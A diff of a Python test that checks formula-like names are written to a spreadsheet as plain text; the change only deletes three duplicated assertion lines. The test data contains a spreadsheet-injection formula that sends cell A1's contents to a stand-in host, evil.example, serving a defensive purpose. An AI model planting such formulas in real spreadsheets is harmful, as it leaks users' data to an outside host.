@@ -289,9 +289,6 @@ def test_formula_like_names_are_written_as_text(sample, base, tmp_path):
     cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
     assert cells['=HYPERLINK("http://evil.example/?x="&A1,"click")'] == "s" and cells["@SUM(1+1)"] == "s"
     assert pd.read_parquet(tmp_path / "pcn_summary.parquet")["pcn_name"].iloc[0].startswith("=HYPERLINK")  # data files keep the text
-    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
-    assert cells['=HYPERLINK("http://evil.example/?x="&A1,"click")'] == "s" and cells["@SUM(1+1)"] == "s"
-    assert pd.read_parquet(tmp_path / "pcn_summary.parquet")["pcn_name"].iloc[0].startswith("=HYPERLINK")  # data files keep the text
 
 
 def test_progress_counts_every_task_and_the_workers_report_each_bad_row(sample, base, tmp_path):
